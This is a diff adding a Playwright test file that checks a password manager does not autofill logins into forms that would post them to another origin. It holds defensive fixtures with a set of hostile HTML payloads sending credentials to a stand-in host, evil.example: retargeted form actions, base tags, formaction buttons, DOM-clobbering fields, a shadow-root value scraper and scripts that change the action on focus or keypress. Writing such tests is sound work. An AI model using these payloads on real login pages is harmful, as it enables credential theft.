@@ -1,0 +1,125 @@
+import { expect, test } from '@playwright/test'
+import { signIn } from '../pages/hostile-site.ts'
+import { fieldsOf } from './fixtures.ts'
+import { PASSWORD, USERNAME, chooseFirst, heldIn, openMenuAt, openScene } from './hostile-scene.ts'
+import type { Scene } from './hostile-scene.ts'
+
+// Forms on the login's own page that would send it to somebody else, however they say so. Nothing is left in any field, and
+// the person is told to whom it would have gone.
+test.describe.configure({ mode: 'serial' })
+
+let scene: Scene
+let evil = ''
+const show = (html: string) => scene.page.goto(scene.site.show('portal.example/login', html))
+
+test.beforeAll(async () => {
+  scene = await openScene(async ({ keep, site }) => {
+    await keep('Portail', [site.origin('portal.example')])
+    await keep('Large', [{ address: site.origin('www.wide.example'), match: 'domain', realm: '' }])
+    await keep('Double', [site.origin('two.example'), site.origin('login.two-sign-in.example')])
+  })
+  evil = scene.site.origin('evil.example')
+})
+test.afterAll(() => scene.close())
+
+const on = (event: string, at: string, script: string) =>
+  `<script>document.getElementById('${at}').addEventListener('${event}', () => { ${script} })</script>`
+const turn = (to: string) => `form.setAttribute('action', '${to}')`
+/** Hides the form's own properties from whoever asks the form for them. */
+const clobbers = ['action', 'elements', 'form', 'getAttribute', 'getRootNode', 'attributes', 'querySelectorAll', 'id']
+  .map((name) => `<input type="hidden" name="${name}" value="/">`)
+  .join('')
+
+const attacks: Record<string, (evil: string) => string> = {
+  'the form’s action': (evil) => signIn(`action="${evil}/in"`),
+  'an action by the page’s own scheme': (evil) => signIn(`action="${evil.replace('http:', '')}/in"`),
+  'a base for relative actions': (evil) => `<base href="${evil}/">${signIn('action="in"')}`,
+  'a base for an action that is blank, but not empty': (evil) => `<base href="${evil}/">${signIn('action=" "')}`,
+  'a second button': (evil) => signIn('', `<button formaction="${evil}/in">Go on</button>`),
+  'a picture that sends': (evil) => signIn('', `<input type="image" alt="Go on" formaction="${evil}/in">`),
+  'a button outside of the form': (evil) => `${signIn()}<button form="form" formaction="${evil}/in">Go on</button>`,
+  'an action behind a field of that name': (evil) => signIn(`action="${evil}/in"`, clobbers),
+  'a button’s, behind fields of many names': (evil) =>
+    signIn('', `${clobbers}<button formaction="${evil}/in">Go</button>`),
+  'a form around the closed root that holds the fields': (evil) => `
+    <form action="${evil}/in"><div id="host"></div></form>
+    <script>
+      const root = document.getElementById('host').attachShadow({ mode: 'closed' })
+      root.innerHTML = ${JSON.stringify(signIn())}.replace(/<.?form[^>]*>/g, '')
+      document.body.append(Object.assign(document.createElement('output'), { hidden: true }))
+      setInterval(() => { document.title = [...root.querySelectorAll('input')].map(({ value }) => value).join('|') }, 20)
+    </script>`,
+  'an action that turns when the field gets the focus': (evil) => signIn() + on('focus', 'login', turn(`${evil}/in`)),
+  'an action that turns when the first value is in': (evil) => signIn() + on('input', 'login', turn(`${evil}/in`)),
+  'an action that turns when the password is in': (evil) => signIn() + on('change', 'secret', turn(`${evil}/in`)),
+  'a button that comes with the first key': (evil) =>
+    signIn() +
+    on(
+      'keydown',
+      'login',
+      `form.insertAdjacentHTML('afterend', '<button form=form formaction=${evil}/in>Go</button>')`,
+    ),
+}
+for (const [name, attack] of Object.entries(attacks))
+  test(`P8: ${name} leads to another origin: the fields stay empty, and the popup says to whom it would go`, async () => {
+    await show(attack(evil))
+    expect(await scene.fillFromPopup('Portail')).toContain(`The form on this page would send the login to ${evil}.`)
+    expect(await heldIn(scene.page)).not.toContain(USERNAME)
+    expect(await heldIn(scene.page)).not.toContain(PASSWORD)
+    expect((await scene.page.title()).replaceAll('|', '')).toBe('')
+  })
+
+test('P8: what is no address of the web is none of the login’s: nothing goes to mail, data or a blob', async () => {
+  for (const [action, said] of [
+    ['mailto:me@evil.example', 'mailto:'],
+    ['data:text/html,x', 'data:'],
+    [`blob:${scene.site.origin('portal.example')}/0b1c`, 'blob:'],
+  ] as const) {
+    await show(signIn(`action="${action}"`))
+    expect(await scene.fillFromPopup('Portail')).toContain(`would send the login to ${said}.`)
+    expect(await heldIn(scene.page)).toEqual([])
+  }
+})
+
+test('P8: an action that turns while the menu is open: its row fills nothing, and the menu says to whom it would go', async () => {
+  await show(signIn())
+  const menu = await openMenuAt(scene.page, scene.page.getByLabel('Username'))
+  await scene.page.evaluate(`document.getElementById('form').action = '${evil}/in'`)
+  await chooseFirst(scene.page, menu)
+  await expect(menu.getByText(`Nothing was filled: this form would send it to ${evil}.`)).toBeVisible()
+  expect(await heldIn(scene.page)).toEqual([])
+})
+
+test('forms that send to where they came from, or to nobody, are filled', async () => {
+  const own = scene.site.origin('portal.example')
+  for (const html of [
+    signIn(),
+    signIn('action=""'),
+    signIn(`action="${own}/in" target="_blank"`),
+    signIn('action="javascript:void(0)"'),
+    signIn('action="about:blank"'),
+    signIn('action="/in"', `${clobbers}<button formaction="/other">Other</button>`),
+    `<base href="${evil}/">${signIn()}`,
+    `${signIn()}<form action="${evil}/search"><input name="q" aria-label="Search"><button>Search</button></form>`,
+  ]) {
+    await show(html)
+    expect([html, await scene.fillFromPopup('Portail')]).toEqual([html, expect.stringContaining('Filled')])
+    expect(await fieldsOf(scene.page)).toMatchObject({ login: USERNAME, secret: PASSWORD })
+  }
+})
+
+test('P8: a form may send to where the login’s rule or its second address reaches, and no further', async () => {
+  const { site, page } = scene
+  for (const [name, host, to, fills] of [
+    ['Large', 'www.wide.example', 'login.wide.example', true],
+    ['Large', 'www.wide.example', 'wide.example.evil.example', false],
+    ['Double', 'two.example', 'login.two-sign-in.example', true],
+    ['Double', 'two.example', 'two-sign-in.example', false],
+    ['Portail', 'portal.example', 'login.portal.example', false],
+  ] as const) {
+    await page.goto(site.show(`${host}/login`, signIn(`action="${site.origin(to)}/in"`)))
+    const said = fills ? 'Filled' : `would send the login to ${site.origin(to)}.`
+    expect([host, await scene.fillFromPopup(name)]).toEqual([host, expect.stringContaining(said)])
+    expect(await heldIn(page)).toEqual(fills ? [USERNAME, PASSWORD] : [])
+  }
+})
